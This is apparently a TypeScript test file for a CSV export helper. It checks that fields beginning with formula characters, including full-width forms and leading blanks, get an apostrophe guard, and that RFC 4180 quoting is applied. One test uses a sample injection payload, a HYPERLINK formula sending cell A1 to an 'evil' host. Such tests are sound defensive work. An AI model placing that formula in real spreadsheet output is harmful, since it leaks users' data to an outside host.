import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import { parseCsv } from '../../src/classify/csv';
import { csvField, csvRow } from '../../src/util/csv';

/** Every character that makes a spreadsheet evaluate a field when it comes first. */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];

/** What a spreadsheet reads from one written field. */
function readBack(text: string): string {
  const rows = parseCsv(csvRow([text]));
  assert.equal(rows.length, 1);
  assert.equal(rows[0].length, 1);
  return rows[0][0];
}

test('the full-width forms are the code points U+FF1D, U+FF0B, U+FF0D and U+FF20', () => {
  assert.deepEqual(FORMULA_STARTS.slice(7).map((c) => c.codePointAt(0)), [0xff1d, 0xff0b, 0xff0d, 0xff20]);
});

test('a field starting with any formula character gets an apostrophe, and reads back as the text behind it', () => {
  for (const start of FORMULA_STARTS) {
    const text = `${start}HYPERLINK("http://evil/?"&A1)`;
    assert.equal(readBack(text), `'${text}`, JSON.stringify(text));
  }
});

test('blanks before a formula character do not hide it', () => {
  for (const start of FORMULA_STARTS) {
    for (const blanks of [' ', '   ', '\u00a0', '\u3000', ' \n ']) {
      const text = `${blanks}${start}1+1`;
      assert.equal(readBack(text), `'${text}`, JSON.stringify(text));
    }
  }
});

test('a formula character that is not first, or a blank field, is left alone', () => {
  for (const text of ['a=b-c.png', 'cell +1 @2', 'x\t=1', '', '   ', 'neutrophil', "'=already guarded", 'lymphocyte (small)']) {
    assert.equal(readBack(text), text, JSON.stringify(text));
  }
});

test('a plain decimal number stays a number, negative ones included; anything more around it is guarded', () => {
  for (const number of ['0', '12', '0.8123', '-0.25', '-7', '100.0']) assert.equal(csvField(number), number);
  for (const text of ['-1+2', '+5', '-1e5', ' -1', '-1 ', '-0.5.png', '-', '-.5', '1-2']) {
    const expected = /^\d/.test(text) ? text : `'${text}`;
    assert.equal(readBack(text), expected, JSON.stringify(text));
  }
});

test('RFC 4180 quoting: commas, quotes and line breaks are quoted, quotes doubled, and the guard comes inside the quotes', () => {
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('two\nlines'), '"two\nlines"');
  assert.equal(csvField('=1,2'), '"\'=1,2"');
  assert.equal(csvField('\r=1'), '"\'\r=1"');
  assert.equal(csvRow(['a', '=b', '-1.5', 'c,d']), 'a,\'=b,-1.5,"c,d"\n');
});
